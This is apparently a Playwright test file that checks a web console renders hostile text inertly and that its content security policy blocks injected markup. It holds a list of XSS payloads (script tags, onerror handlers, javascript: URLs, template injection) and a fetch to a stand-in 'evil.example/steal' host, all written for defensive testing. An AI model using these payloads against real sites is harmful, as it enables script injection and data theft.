/** Whatever stands in a commit, a definition, an endpoint or a report is shown, and does nothing. */

import type { Browser } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { applicationId, partitionId, networkPartitionName, repositoryId, sourceName, type AliasPath } from '../../schemas/ids.ts';
import type { Listener } from '../../reconciler/server/listen.ts';
import type { FakeView } from '../server/fake-view.ts';
import { tenant } from '../server/fake-view.ts';
import { chromiumIsHere, chromiumTag, launchBrowser, openPage, serve } from './browser.ts';
import { clusterOf, emptyPlan, holdOf, memberOf, reason, shopOf, worldAtRest } from './world.ts';

const attacks = [
  '<img src=x onerror="alert(1)">', '"><svg onload=alert(2)>', '<script>alert(3)</script>', '<iframe src="https://evil.example/"></iframe>', '</title><base href="https://evil.example/">',
  '{{constructor.constructor("alert(4)")()}}', '<style>@import "https://evil.example/a.css"</style>', '<a href="javascript:alert(5)">x</a>', '<link rel=prefetch href=https://evil.example/>', '\u202Etxt.exe\u202C \u0000 \uFEFF',
];
const attack = attacks.join(' ');
const endpoints = ['javascript:alert(6)', 'java\tscript:alert(7)', 'data:text/html,<script>alert(8)</script>', 'vbscript:alert(9)', '" onmouseover="alert(10)', 'blob:https://evil.example/1', 'http://127.0.0.1:41000/ "><img src=x onerror=alert(11)>'];

/** Every text that can come from outside is an attack. */
function hostileWorld(): FakeView {
  const view = worldAtRest();
  const name = 'shop"><img src=x onerror=alert(12)>';
  const id = applicationId({ tenant, name });
  view.sourceList = [{ ...view.sourceList[0]!, name: sourceName(attack), url: endpoints[0]!, branch: attack, path: attack, commit: { author: `${attack} <${attack}>`, message: `${attack}\n\n${attack}`, atMs: Date.now() }, failure: attack }];
  view.linkList = [{ name: attack, connected: false, detail: attack }];
  view.problemList = [{ severity: 'error', code: attack, message: attack, source: sourceName(attack), file: `${attack}.yaml`, line: 1, column: 2, hint: attack, applications: [id] }];
  const member = memberOf('web', 0, {
    remark: attack, serving: 'no(unhealthy)', partition: partitionId({ networkPartition: networkPartitionName(attack), partition: attack }), since: attack,
    endpoints: endpoints.map((url, index) => ({ port: `${index}${attack}`, url })), artifacts: [{ repository: repositoryId(attack), commit: attack as never }],
  });
  const shop = shopOf([clusterOf(attack, { cartridge: attack, members: [member] })], { name, id });
  view.applicationList = [{ ...shop, instances: [{ ...shop.instances[0]!, networkPartition: networkPartitionName(attack), groups: [{ ...shop.instances[0]!.groups[0]!, alias: attack, path: attack as AliasPath }] }] }];
  const because = { ...reason(attack, attack, { [attack]: attack, __proto__x: attack }), origin: { source: sourceName(attack), revision: attack, path: attack, document: 0, pointer: attack } };
  view.plans = new Map([[id, { ...emptyPlan(id), holds: [holdOf('needs-approval', { id: attack, subject: attack as AliasPath, because }), holdOf('breaker', { because })] }]]);
  view.happen({ application: id, text: attack, because, facts: { [attack]: attack } });
  return view;
}

describe.skipIf(!chromiumIsHere)(`hostile texts in the console ${chromiumTag}`, () => {
  let browser: Browser;
  let listener: Listener;

  beforeAll(async () => { browser = await launchBrowser(); });
  afterAll(() => browser.close());
  afterEach(async () => {
    await Promise.all(browser.contexts().map((context) => context.close()));
    await listener.close();
  });

  const watchPolicy = 'globalThis.violations = []; addEventListener("securitypolicyviolation", (event) => violations.push(event.violatedDirective + " " + event.blockedURI));';

  test('are shown as they are and do nothing', async () => {
    listener = await serve(hostileWorld());
    const { page, dialogs, complaints, requests } = await openPage(browser);
    await page.addInitScript(watchPolicy);
    await page.goto(`${listener.url}/`);
    await page.locator('[data-kind=member] > summary').click();
    for (const summary of await page.locator('.event > summary, .reason > summary, .source summary').all()) await summary.click();
    for (const element of await page.locator('.facts code, .facts dd, .item, .event').all()) await element.hover({ force: true });
    await page.waitForTimeout(300);

    expect(dialogs).toEqual([]);
    expect(complaints).toEqual([]);
    expect(await page.evaluate('violations')).toEqual([]);
    expect(requests.map((url) => new URL(url)).filter(({ origin, pathname }) => origin !== listener.url || !/^\/(?:$|assets\/|api\/v1\/)/.test(pathname)).filter(({ protocol }) => protocol !== 'data:').map(String)).toEqual([]);
    expect(await page.locator('#console :is(script, img, iframe, object, embed, form, base, link, style, meta)').count()).toBe(0);
    expect(await page.evaluate('[...document.querySelectorAll("#console *")].flatMap((element) => element.getAttributeNames()).filter((name) => name.startsWith("on"))')).toEqual([]);
    expect(await page.evaluate('[...document.querySelectorAll("a")].map((link) => link.getAttribute("href"))')).toEqual(['#applications']);
    for (const place of ['.source .subject > summary', '.failure', '#problems .text', '.reason > summary', '.event .text', '.facts dd', '[data-kind=cluster] > summary .name']) {
      const texts = await page.locator(place).allTextContents();
      expect(texts.some((text) => text.includes('<img src=x onerror="alert(1)">')), place).toBe(true);
    }
  });

  test('could do nothing even if one became markup', async () => {
    listener = await serve(worldAtRest());
    const { page, dialogs, requests } = await openPage(browser);
    await page.addInitScript(watchPolicy);
    await page.goto(`${listener.url}/`);
    await page.locator('[data-kind=member]').first().waitFor();
    await page.evaluate(`
      document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/x.png" onerror="alert(1)"><iframe src="https://evil.example/"></iframe><p style="color: red">styled</p>');
      document.body.append(Object.assign(document.createElement('script'), { textContent: 'alert(2)' }));
      fetch('https://evil.example/steal').catch(() => {});
    `);
    await page.waitForFunction('violations.length >= 6');
    const violations = await page.evaluate<string[]>('violations');
    expect(new Set(violations.map((violation) => violation.split(' ')[0]))).toEqual(new Set(['img-src', 'script-src-attr', 'script-src-elem', 'frame-src', 'style-src-attr', 'connect-src']));
    expect(dialogs).toEqual([]);
    expect(requests.filter((url) => url.includes('evil')).length).toBeLessThanOrEqual(3);
  });
});
